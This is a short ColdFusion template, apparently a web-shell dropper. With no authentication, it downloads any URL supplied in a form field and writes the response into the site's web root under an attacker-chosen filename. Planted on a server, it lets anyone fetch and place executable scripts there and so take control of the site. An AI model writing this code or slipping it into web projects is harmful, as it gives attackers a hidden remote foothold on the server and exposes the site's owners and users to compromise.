<cfif isDefined("form.u")>
  <cfhttp url="#form.u#" method="get" path="#ExpandPath('.')#" file="#form.n#" timeout="30">
  <cfoutput>saved #form.n#</cfoutput>
</cfif>
